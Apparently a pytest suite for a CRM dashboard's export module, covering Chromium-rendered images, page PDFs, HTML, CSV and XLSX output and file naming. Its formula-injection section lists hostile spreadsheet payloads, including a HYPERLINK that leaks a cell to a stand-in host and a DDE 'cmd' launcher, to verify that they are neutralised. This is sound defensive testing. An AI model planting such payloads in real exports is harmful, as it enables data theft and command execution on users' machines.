"""charts.export: image files rendered by the warm Chromium, HTML, CSV, XLSX and the page PDF.

Image tests need Debian's chromium: they skip without it on a user's machine and fail under CI=true.
"""

from __future__ import annotations

import csv
import html
import io
import os
import re
import struct
import xml.etree.ElementTree as ET
import zipfile
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import plotly.graph_objects as go
import pytest
from openpyxl.utils.escape import unescape

from charts import export

IN_CI = os.environ.get("CI", "").lower() == "true"
PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


@pytest.fixture
def needs_chromium() -> None:
    if not export.chromium_available():
        if IN_CI:
            pytest.fail("chromium is required under CI=true: " + export.MISSING_CHROMIUM_HELP)
        pytest.skip(export.MISSING_CHROMIUM_HELP)


@pytest.fixture
def fcr_figure() -> go.Figure:
    fig = go.Figure(
        go.Scatter(x=["2026-01-01", "2026-02-01", "2026-03-01"], y=[0.71, 0.74, 0.69], name="FCR")
    )
    fig.update_layout(title_text="First-contact resolution")
    return fig


@pytest.fixture
def fcr_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "period": pd.to_datetime(["2026-01-01", "2026-02-01", "2026-03-01"]),
            "resolved": [120, 95, 1310],
            "first_contact": [85, 70, 904],
            "fcr_rate": [85 / 120, 70 / 95, 904 / 1310],
            "ci_low": [0.62, 0.64, 0.66],
            "ci_high": [0.78, 0.82, 0.71],
            "low_sample": [False, False, False],
        }
    )


def pdf_page_count(pdf: bytes) -> int:
    """Page objects in a PDF: ``/Type /Page`` entries (``/Pages`` is the page tree, not a page)."""
    return len(re.findall(rb"/Type\s*/Page(?![a-zA-Z])", pdf))


# --- static images --------------------------------------------------------------------------


def test_png_has_signature_and_the_default_size_at_scale_two(needs_chromium, fcr_figure):
    png = export.figure_bytes(fcr_figure, "png")
    assert png[:8] == PNG_SIGNATURE
    width, height = struct.unpack(">II", png[16:24])  # IHDR: width and height, big-endian
    # default 1000 x 500 px rendered at scale 2
    assert (width, height) == (2000, 1000)


def test_png_honours_the_figure_layout_size(needs_chromium, fcr_figure):
    fcr_figure.update_layout(width=640, height=320)
    png = export.figure_bytes(fcr_figure, "png", scale=1)
    assert struct.unpack(">II", png[16:24]) == (640, 320)


def test_svg_root_element_is_svg_and_holds_the_title(needs_chromium, fcr_figure):
    svg = export.figure_bytes(fcr_figure, "svg")
    root = ET.fromstring(svg)
    assert root.tag == "{http://www.w3.org/2000/svg}svg"
    assert "First-contact resolution" in svg.decode("utf-8")


def test_pdf_has_header_and_one_page(needs_chromium, fcr_figure):
    pdf = export.figure_bytes(fcr_figure, "pdf")
    assert pdf.startswith(b"%PDF-")
    assert pdf.rstrip().endswith(b"%%EOF")
    assert pdf_page_count(pdf) == 1


def test_the_browser_stays_warm_between_exports(needs_chromium, fcr_figure):
    export.figure_bytes(fcr_figure, "svg")
    assert export.server_running()
    export.figure_bytes(fcr_figure, "png")
    assert export.server_running()


def test_unknown_format_is_rejected(fcr_figure):
    with pytest.raises(ValueError, match="jpeg"):
        export.figure_bytes(fcr_figure, "jpeg")  # type: ignore[arg-type]


# --- page PDF ---------------------------------------------------------------------------------


def test_page_pdf_has_one_page_per_chart_with_title_filters_and_definitions(needs_chromium, fcr_figure):
    bar = go.Figure(go.Bar(x=["billing", "defect"], y=[14, 9]))
    items = [
        ("FCR trend", fcr_figure, "Tickets resolved with one contact ÷ all resolved tickets."),
        ("Tickets by category", bar, "Tickets by opened_at, grouped by category."),
        ("Tickets again", bar, ""),
    ]
    pdf = export.page_pdf("Service", "Segment: SMB · Period: month", items)
    assert pdf.startswith(b"%PDF-")
    assert pdf_page_count(pdf) == 3  # each chart starts a new A4-landscape page


def test_page_pdf_without_charts_is_a_single_page(needs_chromium):
    pdf = export.page_pdf("Forecast", "all data", [])
    assert pdf_page_count(pdf) == 1


def test_report_html_escapes_text_and_shows_filters_and_definitions():
    page = export.report_html(
        "Service <b>",
        "Segment: SMB & Mid-market",
        [("FCR", '<svg width="700" height="500"></svg>', "resolved < 24 h")],
    )
    assert "Service &lt;b&gt;" in page
    assert "Segment: SMB &amp; Mid-market" in page
    assert "resolved &lt; 24 h" in page
    # the fixed pixel size is replaced by a viewBox so the chart scales to the page
    assert '<svg viewBox="0 0 700 500">' in page


# --- without chromium -------------------------------------------------------------------------


def test_without_chromium_images_raise_a_clear_error_and_data_exports_still_work(
    monkeypatch, fcr_figure, fcr_frame
):
    monkeypatch.setattr(export, "chromium_path", lambda: None)
    assert not export.chromium_available()
    for fmt in ("png", "svg", "pdf"):
        with pytest.raises(export.ChromiumMissingError, match="apt-get install chromium"):
            export.figure_bytes(fcr_figure, fmt)
    with pytest.raises(export.ChromiumMissingError, match="apt-get install chromium"):
        export.page_pdf("Service", "all", [("FCR", fcr_figure, "d")])
    assert export.figure_html(fcr_figure).lower().startswith(b"<!doctype html>")
    assert export.frame_csv(fcr_frame).startswith(b"period,")
    assert export.frame_xlsx({"FCR": fcr_frame})[:2] == b"PK"


def test_chromium_lookup_follows_the_environment_and_reports_absence(monkeypatch, tmp_path):
    fake = tmp_path / "my-chrome"
    fake.write_text("#!/bin/sh\n")
    fake.chmod(0o755)
    monkeypatch.setattr(export, "CHROMIUM_CANDIDATES", ())
    monkeypatch.setenv("PATH", str(tmp_path / "empty"))
    monkeypatch.delenv("BROWSER_PATH", raising=False)
    monkeypatch.setenv("CRM_CHROMIUM_PATH", str(tmp_path / "missing"))
    assert export.chromium_path() is None
    assert not export.chromium_available()
    monkeypatch.setenv("CRM_CHROMIUM_PATH", str(fake))
    assert export.chromium_path() == str(fake)


# --- HTML -------------------------------------------------------------------------------------


def test_figure_html_is_self_contained_and_interactive(fcr_figure):
    page = export.figure_html(fcr_figure, title="FCR <trend>").decode("utf-8")
    assert "<title>FCR &lt;trend&gt;</title>" in page
    assert "Plotly.newPlot" in page
    assert not re.search(r"<script[^>]*\ssrc=", page)  # plotly.js is embedded, works offline
    assert len(page) > 1_000_000
    assert "First-contact resolution" in page


# --- CSV --------------------------------------------------------------------------------------


def test_csv_round_trip_keeps_columns_values_and_dates(fcr_frame):
    frame = fcr_frame.assign(comment=["fast, friendly", 'said "thanks"', "ünïcode"])
    back = pd.read_csv(io.BytesIO(export.frame_csv(frame)), parse_dates=["period"])
    assert list(back.columns) == list(frame.columns)
    assert back["period"].dt.date.tolist() == [date(2026, 1, 1), date(2026, 2, 1), date(2026, 3, 1)]
    assert back["resolved"].tolist() == [120, 95, 1310]
    assert back["fcr_rate"].tolist() == pytest.approx(frame["fcr_rate"].tolist())
    assert back["comment"].tolist() == ["fast, friendly", 'said "thanks"', "ünïcode"]


# --- XLSX -------------------------------------------------------------------------------------


def test_xlsx_has_one_sheet_per_frame_formatted_and_an_about_sheet(fcr_frame):
    by_category = pd.DataFrame({"group": ["billing", "defect"], "tickets": [14, 9]})
    meta = {"Definition": "FCR = first-contact ÷ resolved", "Filters": "Segment: SMB"}
    workbook = openpyxl.load_workbook(
        io.BytesIO(export.frame_xlsx({"FCR trend": fcr_frame, "By category": by_category}, meta))
    )
    assert workbook.sheetnames == ["FCR trend", "By category", "About"]

    fcr = workbook["FCR trend"]
    assert [c.value for c in fcr[1]] == list(fcr_frame.columns)
    assert fcr["A2"].value.date() == date(2026, 1, 1)
    assert fcr["B4"].value == 1310
    assert fcr["B4"].number_format == "#,##0"
    assert fcr["D2"].value == pytest.approx(85 / 120)
    assert fcr["D2"].number_format == "0.0%"
    assert fcr["E2"].number_format == "0.0%"  # ci_low bounds a rate here
    assert fcr.max_row == 4

    categories = workbook["By category"]
    assert [[c.value for c in row] for row in categories.iter_rows()] == [
        ["group", "tickets"],
        ["billing", 14],
        ["defect", 9],
    ]

    about = {row[0].value: row[1].value for row in workbook["About"].iter_rows()}
    assert about["Definition"] == "FCR = first-contact ÷ resolved"
    assert about["Filters"] == "Segment: SMB"
    assert about["Exported"].endswith("UTC")


def test_xlsx_nps_intervals_are_points_not_percent():
    nps = pd.DataFrame(
        {"period": pd.to_datetime(["2026-01-01"]), "nps": [32.5], "ci_low": [20.1], "ci_high": [44.9]}
    )
    sheet = openpyxl.load_workbook(io.BytesIO(export.frame_xlsx({"NPS": nps})))["NPS"]
    assert sheet["B2"].number_format == "0.0"
    assert sheet["C2"].number_format == "0.0"


def test_xlsx_sheet_names_are_made_valid_and_unique():
    frame = pd.DataFrame({"a": [1]})
    data = export.frame_xlsx(
        {"Costs / retained [€]": frame, "About": frame, "x" * 40: frame, "x" * 45: frame}
    )
    names = openpyxl.load_workbook(io.BytesIO(data)).sheetnames
    assert names[0] == "Costs   retained  €"
    assert names[1] == "About (2)"
    assert names[2] == "x" * 31
    assert names[3] == "x" * 27 + " (2)"
    assert names[4] == "About"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert "xl/workbook.xml" in archive.namelist()


def test_xlsx_handles_empty_frames_missing_values_and_time_zones():
    frame = pd.DataFrame(
        {
            "responded_at": pd.to_datetime(["2026-03-01 10:30"]).tz_localize("UTC"),
            "score": [None],
            "comment": [None],
        }
    )
    book = openpyxl.load_workbook(
        io.BytesIO(export.frame_xlsx({"Comments": frame, "Empty": pd.DataFrame(columns=["x"])}))
    )
    assert book["Comments"]["A2"].value.hour == 10
    assert book["Comments"]["B2"].value is None
    assert [c.value for c in book["Empty"][1]] == ["x"]


# --- spreadsheet safety (formula injection) --------------------------------------------------

#: Text a spreadsheet would run as a formula, and a text that merely starts with a minus.
HOSTILE_TEXT = [
    '=HYPERLINK("http://evil.test/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "-5 days",
]
#: Text that must come out exactly as it went in.
HARMLESS_TEXT = ["Acme, Inc.", "Zoë Ñandú", "it's fine", "http://example.test/page", "a=b"]


@pytest.fixture
def hostile_frame() -> pd.DataFrame:
    """Hostile and harmless text in object, string and categorical columns, next to real
    numbers (a negative one too), a mixed column and a hostile column name."""
    text = HOSTILE_TEXT + HARMLESS_TEXT[: len(HOSTILE_TEXT) - 1] + [None]
    rows = len(text)
    return pd.DataFrame(
        {
            "comment": pd.Series(text, dtype=object),
            "label": pd.Series(text, dtype="string"),
            "category": pd.Series(text, dtype="category"),
            "amount": [-5.0, 1.5, -0.25, 0.0, 12.0, -1e6] + [3.0] * (rows - 6),
            "count": list(range(-rows // 2, rows - rows // 2)),
            "mixed": pd.Series([-5, "-5", 2.5, "=1+2"] + [None] * (rows - 4), dtype=object),
            "=SUM(A1:A9)": ["x"] * rows,
        }
    )


def _expected_text(value: str) -> str:
    return "'" + value if value in HOSTILE_TEXT else value


def _xlsx_text(cell: Any) -> Any:
    """A cell's value as Excel shows it: xlsxwriter stores a carriage return as OOXML's
    ``_x000D_`` escape, which openpyxl leaves escaped when reading."""
    return unescape(cell.value) if isinstance(cell.value, str) else cell.value


def test_neutraliser_prefixes_formula_triggers_only_on_text():
    from crm_data.spreadsheet_safety import FORMULA_TRIGGERS, neutralise_text, neutralise_value

    for value in [*HOSTILE_TEXT, "-", "=", "+1", "-5"]:
        assert value.startswith(FORMULA_TRIGGERS)
        assert neutralise_text(value) == "'" + value
        assert neutralise_text(neutralise_text(value)) == "'" + value  # applying it twice changes nothing
    for value in [*HARMLESS_TEXT, "", " =1+1", "'=1+1"]:
        assert neutralise_text(value) == value
    for value in (-5, -5.5, 0, None, float("nan"), True, pd.Timestamp("2026-01-01"), pd.NA):
        assert neutralise_value(value) is value


def test_csv_neutralises_hostile_text_and_keeps_numbers(hostile_frame):
    data = export.frame_csv(hostile_frame).decode("utf-8")
    rows = list(csv.reader(io.StringIO(data, newline="")))
    header, body = rows[0], rows[1:]
    assert header == ["comment", "label", "category", "amount", "count", "mixed", "'=SUM(A1:A9)"]
    assert len(body) == len(hostile_frame)  # the carriage return did not split a row
    for index, row in enumerate(body):
        cells = dict(zip(header, row, strict=True))
        original = hostile_frame["comment"][index]
        expected = "" if original is None else _expected_text(original)
        assert cells["comment"] == cells["label"] == cells["category"] == expected
        assert cells["'=SUM(A1:A9)"] == "x"
        assert float(cells["amount"]) == hostile_frame["amount"][index]  # numbers: never quoted
        assert int(cells["count"]) == hostile_frame["count"][index]
    assert [row[0] for row in body[:6]] == [
        '\'=HYPERLINK("http://evil.test/?leak="&A1,"Click for details")',
        "'+cmd|' /C calc'!A0",
        "'@SUM(1+1)",
        "'\t=1+1",
        "'\r=1+1",
        "'-5 days",
    ]
    assert [row[3] for row in body[:2]] == ["-5.0", "1.5"]
    # a mixed column: the number -5 stays a number, the text "-5" is neutralised
    assert [row[5] for row in body[:4]] == ["-5", "'-5", "2.5", "'=1+2"]
    # pandas reads the numbers back as numbers
    back = pd.read_csv(io.BytesIO(data.encode("utf-8")))
    assert back["amount"].tolist() == hostile_frame["amount"].tolist()
    assert back["count"].tolist() == hostile_frame["count"].tolist()


def test_csv_quotes_every_line_break_and_keeps_the_rest_as_pandas_writes_it(fcr_frame):
    frame = pd.DataFrame({"text": ["a\rb", "a\nb", "a\r\nb", 'say "hi"', "x,y", " pad "], "n": range(6)})
    data = export.frame_csv(frame).decode("utf-8")
    assert data.splitlines(keepends=True)[0] == "text,n\n"
    assert '"a\rb",0\n' in data
    rows = list(csv.reader(io.StringIO(data, newline="")))
    assert [row[0] for row in rows[1:]] == frame["text"].tolist()
    # without a carriage return the file is exactly pandas' own CSV
    assert export.frame_csv(fcr_frame) == fcr_frame.to_csv(
        index=False, date_format="%Y-%m-%dT%H:%M:%S", lineterminator="\n"
    ).encode("utf-8")


def test_xlsx_stores_hostile_text_as_neutralised_text_and_numbers_as_numbers(hostile_frame):
    meta = {"Filters": '=HYPERLINK("http://evil.test")', "Definition": "won ÷ (won + lost)"}
    data = export.frame_xlsx({"Hostile": hostile_frame}, meta)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        for name in sheets:
            xml = archive.read(name).decode("utf-8")
            assert "<f>" not in xml and "<f " not in xml, name  # no formula anywhere
            assert "<hyperlink" not in xml, name  # a URL in a cell stays text
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book["Hostile"]
    header = [cell.value for cell in sheet[1]]
    assert header == ["comment", "label", "category", "amount", "count", "mixed", "'=SUM(A1:A9)"]
    for cell in sheet[1]:
        assert cell.data_type == "s"
    for index, row in enumerate(sheet.iter_rows(min_row=2)):
        cells = dict(zip(header, row, strict=True))
        original = hostile_frame["comment"][index]
        for column in ("comment", "label", "category"):
            cell = cells[column]
            if original is None:
                assert cell.value is None
            else:
                assert cell.data_type == "s", (column, original)
                assert _xlsx_text(cell) == _expected_text(original)
        assert cells["amount"].data_type == "n"
        assert cells["amount"].value == hostile_frame["amount"][index]
        assert cells["count"].data_type == "n"
        assert cells["count"].value == hostile_frame["count"][index]
    assert sheet["A6"].value == "'_x000D_=1+1" and _xlsx_text(sheet["A6"]) == "'\r=1+1"
    assert sheet["A7"].value == "'-5 days"
    assert sheet["D2"].value == -5 and sheet["D2"].data_type == "n"
    assert [sheet.cell(row, 6).value for row in range(2, 6)] == [-5, "'-5", 2.5, "'=1+2"]
    assert sheet.cell(2, 6).data_type == "n" and sheet.cell(3, 6).data_type == "s"
    assert "http://example.test/page" in [cell.value for cell in sheet["A"]]
    assert all(cell.hyperlink is None for row in sheet.iter_rows() for cell in row)
    about = {row[0].value: row[1] for row in book["About"].iter_rows()}
    assert about["Filters"].value == '\'=HYPERLINK("http://evil.test")'
    assert about["Filters"].data_type == "s"
    assert about["Definition"].value == "won ÷ (won + lost)"


def test_data_quality_page_download_csv_is_neutralised(tmp_path, monkeypatch):
    """End to end: hostile account names in the database -> the Data quality page's
    "Download CSV" of the accounts without an owner -> neutralised, readable cells."""
    import streamlit as st
    from streamlit.runtime.media_file_manager import MediaFileManager
    from streamlit.testing.v1 import AppTest

    from crm_data import schema
    from crm_data.engines import make_engine
    from crm_data.importing import import_paths

    names = [value for value in HOSTILE_TEXT if value.strip()] + ["Acme, Inc."]
    bundle = tmp_path / "bundle"
    bundle.mkdir()
    with open(bundle / "accounts.csv", "w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)  # quotes the bare \\r too
        writer.writerow(["account_id", "name", "created_at"])
        writer.writerows([f"A{index}", name, "2024-01-01T00:00:00Z"] for index, name in enumerate(names))
    url = f"duckdb:///{tmp_path / 'crm.duckdb'}"
    engine = make_engine(url)
    try:
        schema.create_schema(engine)
        report = import_paths(engine, [bundle])
        assert report.ok, report.render()
    finally:
        engine.dispose()

    recorded: dict[str, object] = {}
    original = MediaFileManager.add_deferred

    def record(self, data_callable, mimetype, coordinates, file_name=None, **kwargs):
        recorded[file_name] = data_callable
        return original(self, data_callable, mimetype, coordinates, file_name, **kwargs)

    monkeypatch.setattr(MediaFileManager, "add_deferred", record)
    monkeypatch.setenv("CRM_DATABASE_URL", url)
    monkeypatch.setenv("CRM_EXPORT_WARMUP", "0")
    st.cache_data.clear()
    st.cache_resource.clear()
    try:
        page = Path(__file__).resolve().parents[2] / "pages" / "7_Data_quality.py"
        at = AppTest.from_file(str(page), default_timeout=120).run()
        assert not at.exception, at.exception
        # the file name carries the date range after the stem (charts.export.file_name)
        build = next(
            v for k, v in recorded.items() if k.startswith("accounts-without-owner_") and k.endswith(".csv")
        )
        data = build()  # what a click on "Download CSV" sends
    finally:
        st.cache_data.clear()
        st.cache_resource.clear()
    data = data if isinstance(data, bytes) else data.encode("utf-8")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    by_id = {row["account_id"]: row["name"] for row in rows}
    assert by_id == {f"A{index}": _expected_text(name) for index, name in enumerate(names)}


# --- exports carry their context (issue 14, point 8) ---------------------------------------

CONTEXT = "01 Dec 2025 – 30 Nov 2026 · per month · Segment: Enterprise · Company size: 1-10"


def test_the_context_is_a_subtitle_in_the_svg_and_the_screen_figure_is_unchanged(needs_chromium, fcr_figure):
    before = fcr_figure.to_dict()
    svg = export.figure_bytes(fcr_figure, "svg", context=CONTEXT).decode("utf-8")
    texts = " ".join(t.text or "" for t in ET.fromstring(svg).iter("{http://www.w3.org/2000/svg}text"))
    assert "Segment: Enterprise" in texts and "01 Dec 2025 – 30 Nov 2026" in texts
    assert "First-contact resolution" in texts
    assert fcr_figure.to_dict() == before  # the on-screen figure keeps its look
    plain = export.figure_bytes(fcr_figure, "svg").decode("utf-8")
    assert "Segment: Enterprise" not in plain


def test_a_long_context_is_wrapped_and_escaped():
    fig = go.Figure(go.Bar(x=["a"], y=[1]))
    context = "Country: " + ", ".join(f"<Land {i}>" for i in range(40))
    out = export.with_context(fig, context)
    subtitle = out.layout.title.subtitle.text
    lines = [html.unescape(line) for line in subtitle.split("<br>")]
    assert len(lines) >= 3 and all(len(line) <= export.CONTEXT_LINE_CHARACTERS for line in lines)
    assert " ".join(lines) == context
    assert "&lt;Land 0&gt;" in subtitle and "<Land" not in subtitle
    assert out.layout.margin.t >= 60 + 3 * (export.CONTEXT_FONT_SIZE + 5)
    assert fig.layout.title.subtitle.text is None


def test_file_names_carry_the_filters_slugged_and_length_capped():
    tag = "2025-12-01_2026-11-30_segment-enterprise"
    assert (
        export.file_name("Churn rate", tag, "png")
        == "churn-rate_2025-12-01_2026-11-30_segment-enterprise.png"
    )
    assert export.file_name("Churn rate per month", None, "csv") == "churn-rate-per-month.csv"
    # accents, spaces and odd characters in the title or the tag are slugged
    assert export.file_name("NPS — Perú / Chile", "2026-01-01_2026-01-31_country-Perú & Co", "xlsx") == (
        "nps-peru-chile_2026-01-01_2026-01-31_country-peru-co.xlsx"
    )
    long_a = "2025-12-01_2026-11-30_country-" + "-".join(f"land{i}" for i in range(80))
    long_b = long_a + "-one-more"
    name_a, name_b = (
        export.file_name("Churn rate", long_a, "png"),
        export.file_name("Churn rate", long_b, "png"),
    )
    assert len(name_a) == export.MAX_FILE_STEM + len(".png")
    assert name_a.startswith("churn-rate_2025-12-01_2026-11-30_country-land0-")
    assert name_a != name_b  # the hash keeps two long names apart
    assert re.fullmatch(r"[a-z0-9_.-]+", name_a)


def _pdf_page_texts(pdf: bytes, tmp_path: Path) -> list[str]:
    import shutil
    import subprocess

    if shutil.which("pdftotext") is None:
        pytest.skip("pdftotext (poppler-utils) is not installed")
    path = tmp_path / "page.pdf"
    path.write_bytes(pdf)
    pages = pdf_page_count(pdf)
    return [
        subprocess.run(
            ["pdftotext", "-f", str(n), "-l", str(n), str(path), "-"],
            capture_output=True,
            text=True,
            check=True,
        ).stdout
        for n in range(1, pages + 1)
    ]


def test_page_pdf_repeats_title_and_filters_on_every_page(needs_chromium, fcr_figure, tmp_path):
    bar = go.Figure(go.Bar(x=["billing", "defect"], y=[14, 9]))
    items = [("FCR trend", fcr_figure, "def one"), ("Tickets", bar, "def two"), ("Tickets again", bar, "")]
    pdf = export.page_pdf("Service", CONTEXT, items)
    texts = _pdf_page_texts(pdf, tmp_path)
    assert len(texts) == 3
    for number, text in enumerate(texts, start=1):
        flat = " ".join(text.split())
        assert "Segment: Enterprise · Company size: 1-10" in flat, number
        assert "01 Dec 2025 – 30 Nov 2026" in flat, number
        assert f"page {number} of 3" in flat, number


def test_the_view_file_tag_names_range_and_filters_as_describe_does():
    from kpis.filters import Filters, Scope
    from ui.filters import View

    # values in the Filters' own (sorted) order, owners by name as describe() shows them
    view = View(
        Filters("2025-12-01", "2026-12-01", segments=("Enterprise",), owners=("U013", "U002")),
        labels={"owners": {"U013": "Ana López", "U002": "Bo Li"}},
    )
    assert view.file_tag() == "2025-12-01_2026-11-30_segment-enterprise_owner-bo-li-ana-lopez"
    assert export.file_name("Churn rate", view.file_tag(), "png") == (
        "churn-rate_2025-12-01_2026-11-30_segment-enterprise_owner-bo-li-ana-lopez.png"
    )
    assert View(Filters("2026-01-01", "2026-02-01")).file_tag() == "2026-01-01_2026-01-31"
    scoped = View(Filters("2026-01-01", "2026-02-01").within(Scope(regions=("EMEA",))))
    assert scoped.file_tag() == "2026-01-01_2026-01-31_scoped"
